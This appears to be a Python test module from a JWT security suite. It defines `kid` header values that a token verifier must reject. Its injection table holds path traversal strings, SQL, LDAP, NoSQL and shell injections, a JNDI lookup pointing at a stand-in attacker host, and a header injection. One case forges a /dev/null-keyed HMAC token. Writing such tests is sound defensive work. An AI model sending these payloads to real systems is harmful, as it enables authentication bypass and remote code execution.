"""`kid`: exactly the name of a published key; never a path, a query, a pattern or an address."""

from collections.abc import Callable

from scripts.hostile_tokens import jose
from scripts.hostile_tokens.case import Category, Recipe
from scripts.hostile_tokens.jose import Text
from scripts.hostile_tokens.recipes import forged, issued
from scripts.hostile_tokens.scenario import ELSEWHERE

_NAME = "`kid` is a string that names a key (RFC 7515 §4.1.4)"
_UNKNOWN = "the issuer publishes no key of this name (RFC 7515 §4.1.4)"
_HINT = "`kid` says which key; the signature has to be that key's (RFC 7515 §5.2)"
_LOOKED_UP = "`kid` is looked up among names; it reaches no file system, data base, shell or network (RFC 8725 §2.7)"

key_id = Category("kid")

_INJECTIONS = {
    "a-path-to-dev-null": "../../../../../../dev/null",
    "a-path-of-Windows": "..\\..\\windows\\win.ini",
    "a-percent-encoded-path": "%2e%2e%2f%2e%2e%2fdev%2fnull",
    "an-absolute-path": "/proc/sys/kernel/randomize_va_space",
    "a-path-into-the-archive": "/var/task/authorizer/access_model.json",
    "SQL": "x' UNION SELECT 'secret' -- ",
    "a-shell-command": "key.pem; /bin/true",
    "a-shell-pipe": "| /bin/true",
    "a-shell-substitution": "$(/bin/true)",
    "an-LDAP-filter": "*)(kid=*",
    "a-NoSQL-operator": '{"$gt": ""}',
    "a-template": "{{7*7}}",
    "a-format-string": "{0.__class__}%s%n",
    "a-JNDI-address": "${jndi:ldap://attacker.example/a}",
    "an-address": f"{ELSEWHERE}/jwks.json",
    "a-wildcard": "*",
    "a-regular-expression": ".*",
    "a-special-name-of-Python": "__class__",
    "a-special-name-of-JavaScript": "__proto__",
    "a-header-injection": "key\r\nX-Injected: 1",
}


def _changed(change: Callable[[str], object]) -> Recipe:
    return issued(header=lambda scenario: {"kid": change(scenario.kid)})


ROWS = (
    key_id.refused("kid-missing", issued(without=["kid"]), _NAME),
    *(
        key_id.refused(f"kid-is-{name}", issued(header={"kid": value}), _NAME)
        for name, value in {
            "null": None,
            "empty": "",
            "0": 0,
            "1": 1,
            "true": True,
            "an-array": ["key"],
            "an-object": {"kid": "key"},
            "a-lone-surrogate": Text('"\\ud800"'),
            "huge": "k" * 700,
        }.items()
    ),
    key_id.refused("kid-of-the-issuer-in-an-array", issued(header=lambda w: {"kid": [w.kid]}), _NAME),
    *(
        key_id.refused(
            f"kid-of-the-issuer-{name}",
            _changed(change),
            "`kid` compares exactly (RFC 7515 §4.1.4)",
        )
        for name, change in {
            "in-other-case": str.swapcase,
            "and-a-space": lambda kid: f"{kid} ",
            "after-a-space": lambda kid: f" {kid}",
            "and-NUL": lambda kid: f"{kid}\0",
            "cut-short": lambda kid: kid[:-1],
            "twice": lambda kid: f"{kid},{kid}",
            "with-a-path-before": lambda kid: f"./{kid}",
        }.items()
    ),
    *(
        key_id.refused(f"kid-is-{name}", forged(header={"kid": value}), _LOOKED_UP)
        for name, value in _INJECTIONS.items()
    ),
    key_id.refused(
        "kid-is-an-empty-file-and-the-HMAC-has-no-secret",
        forged(header={"kid": "/dev/null", "alg": "HS256"}, sign=lambda _: jose.mac(b"")),
        _LOOKED_UP,
    ),
    key_id.refused("kid-unknown-by-the-issuers-key", issued(header={"kid": "no-such-key"}), _UNKNOWN),
    key_id.refused("kid-unknown-by-the-attackers-key", forged(header={"kid": "no-such-key"}), _UNKNOWN),
    key_id.refused("kid-of-another-published-key", issued(header=lambda w: {"kid": w.other_kid}), _HINT),
    key_id.refused("kid-of-the-issuer-by-the-attackers-key", forged(), _HINT),
    key_id.refused(
        "kid-in-the-claims-only",
        issued(lambda w: {"kid": w.kid}, header={"kid": "no-such-key"}),
        "only the protected header names the key (RFC 7515 §4.1.4)",
    ),
)
